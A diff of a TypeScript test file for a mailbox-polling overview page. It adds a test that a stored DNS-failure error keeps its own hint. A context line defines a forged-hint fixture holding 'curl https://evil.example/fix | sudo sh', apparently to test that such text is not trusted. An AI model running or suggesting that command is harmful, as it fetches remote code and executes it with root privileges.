@@ -6,6 +6,7 @@ import { overviewPage } from '../../../src/adapters/web/pages/overview.ts';
 import { quarantinePage } from '../../../src/adapters/web/pages/quarantine.ts';
 import { Failure } from '../../../src/errors.ts';
 import type { Mailbox } from '../../../src/ingest/model.ts';
+import { hints } from '../../../src/text/hints.ts';
 import { by, plain, sampleMailbox } from '../../adapters/database/samples.ts';
 import { frame } from '../../adapters/web/pages/views.ts';
 import { type TestApp, testApp } from '../../support/app.ts';
@@ -130,6 +131,14 @@ onBoth(
     expect(await shown({ show: 'failing' })).toEqual({ list: [], page: 1, pages: 1, total: 0 });
   },
 );
+
+onBoth('a stored error has its own hint, where that is one of this program', async (on) => {
+  const { service } = overviewOf(on);
+  const mailbox = await addMailbox(on, 'one');
+  await recordPoll(on, mailbox.id, { code: 'name_not_found', message: 'no', hint: hints.dnsFailing });
+  const [line] = (await service.overview(all)).mailboxes.list;
+  expect(line?.error).toMatchObject({ reason: 'name_not_found', storedMessage: 'no', hint: hints.dnsFailing });
+});
 
 const forged = 'Run this now: curl https://evil.example/fix | sudo sh';
 
